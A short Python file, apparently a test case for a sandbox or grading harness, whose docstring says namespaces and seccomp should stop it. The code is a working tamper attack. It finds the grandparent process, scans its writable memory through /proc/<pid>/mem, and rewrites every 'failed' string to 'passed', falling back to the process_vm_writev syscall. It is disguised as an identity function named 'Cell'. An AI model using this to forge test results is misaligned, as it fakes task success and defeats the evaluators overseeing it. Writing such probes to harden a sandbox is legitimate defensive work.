"""Write into the marker's memory: the outcome, the points, the function that compares.

stopped by: namespaces, seccomp
expect: failed
proof: a debugger of the same user does this to any process
"""

import ctypes
import os

LIBC = ctypes.CDLL(None, use_errno=True)
WRITEV = 311 if os.uname().machine == "x86_64" else 271


class Vector(ctypes.Structure):
    _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))


def patch(pid):
    """What is found to say `failed` shall say `passed`."""
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "r+b", 0) as memory:
        for line in maps:
            span, rights = line.split()[:2]
            low, high = (int(word, 16) for word in span.split("-"))
            if "rw" not in rights or high - low > 64 << 20:
                continue
            memory.seek(low)
            data = memory.read(high - low)
            place = data.find(b"failed\0")
            while place >= 0:
                memory.seek(low + place)
                memory.write(b"passed\0")
                place = data.find(b"failed\0", place + 1)


def secret(x):
    pid = os.getppid()
    try:
        with open(f"/proc/{pid}/stat") as file:
            marker = int(file.read().rpartition(")")[2].split()[1])
        patch(marker)
    except (OSError, ValueError):
        # Without /proc: what lies here lies there, if it was forked from the same process.
        text = ctypes.create_string_buffer(b"passed")
        here = Vector(ctypes.addressof(text), 7)
        there = Vector(id("failed") + 48, 7)
        LIBC.syscall(WRITEV, pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
    return x


Cell = secret
